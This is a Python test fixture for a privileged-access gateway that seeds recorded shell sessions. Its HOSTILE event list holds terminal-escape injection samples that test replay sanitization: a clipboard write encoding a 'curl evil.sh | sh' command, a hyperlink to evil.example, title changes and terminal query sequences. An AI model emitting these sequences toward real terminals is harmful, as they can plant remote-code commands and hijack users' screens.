"""Recorded gateway sessions for the API and CLI tests, made without a gateway: the session
record goes straight into the app's store and its recording is written by the real
:class:`~keyturn.adapters.recording.RecordingWriter` into ``gateway.recordings_dir``; ending a
session goes through ``service.sessions.end_session``, which chains the recording's hash."""

from __future__ import annotations

from collections.abc import Sequence
from pathlib import Path

from keyturn.adapters.recording import RecordingWriter, recording_path
from keyturn.bootstrap import App
from keyturn.domain.sessions import EndReason, Session, SessionKind, cast_header
from keyturn.service import sessions

Event = tuple[float, str, str]

#: a session's output with escape sequences that attack whoever replays it, between
#: ordinary drawing (colours, clearing the screen); typed input and a resize in between
HOSTILE: list[Event] = [
    (0.25, "o", "\x1b[2J\x1b[Hroot@db-1:~# "),
    (0.5, "i", "cat notes\r"),
    (1.0, "o", "cat notes\r\n\x1b]0;owned title\x07\x1b[31mred\x1b[0m "),
    (1.5, "o", "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07link: \x1b]8;;https://evil.example/"),
    (1.75, "r", "100x30"),
    (2.0, "o", "\x1b\\here\x1b]8;;\x1b\\ \x1b[6n\x1b[c\x1b[21t\x1b[?1000h\x9b6n\x07"),
    (62.0, "o", "\r\n\x1bPdcs\x1b\\\x1b_apc\x1b\\bye\r\n"),
]
#: what replaying :data:`HOSTILE` must write: the drawing and the text, nothing else
HOSTILE_SHOWN = "\x1b[2J\x1b[Hroot@db-1:~# cat notes\r\n\x1b[31mred\x1b[0m link: here 6n\r\nbye\r\n"


def recordings_dir(app: App) -> Path:
    """The app's ``gateway.recordings_dir``."""
    return app.deps.config.gateway.recordings_dir


def seed(
    app: App,
    events: Sequence[Event] = HOSTILE,
    *,
    user: str = "alice",
    target: str = "db-1",
    grant_id: str | None = None,
    kind: SessionKind = SessionKind.SHELL,
    command: str | None = None,
    commands: Sequence[str] = (),
    end: bool = True,
) -> Session:
    """A session of ``user`` with a real recording of ``events`` (times in seconds since the
    start), its best-effort ``commands`` as ``session.command`` events, ended (hash chained)
    unless ``end`` is False."""
    deps = app.deps
    session_id = deps.new_id("ses")
    session = Session(
        id=session_id,
        grant_id=grant_id or deps.new_id("grt"),
        request_id=deps.new_id("req"),
        user_id=user,
        role="server-admin",
        target=target,
        kind=kind,
        started_at=deps.clock.now(),
        recording=f"{session_id}.cast",
        client="127.0.0.1:50022",
        command=command,
    )
    with deps.store.transaction() as tx:
        tx.add_session(session)
    ticks = iter([0.0, *(at for at, _, _ in events)])
    header = cast_header(session, width=80, height=24, term="xterm", input_recorded=True)
    path = recording_path(recordings_dir(app), session.recording)
    writer = RecordingWriter(path, header, lambda: next(ticks))
    for _, code, data in events:
        writer.event(code, data)
    digest = writer.close()
    sessions.session_event(
        deps, session, "session.command", [{"command": c, "best_effort": True} for c in commands]
    )
    if not end:
        return session
    return sessions.end_session(
        deps, session, reason=EndReason.CLOSED, exit_status=0, digest=digest
    )


def recording_of(app: App, session: Session) -> Path:
    """The recording file of ``session``."""
    return recording_path(recordings_dir(app), session.recording)
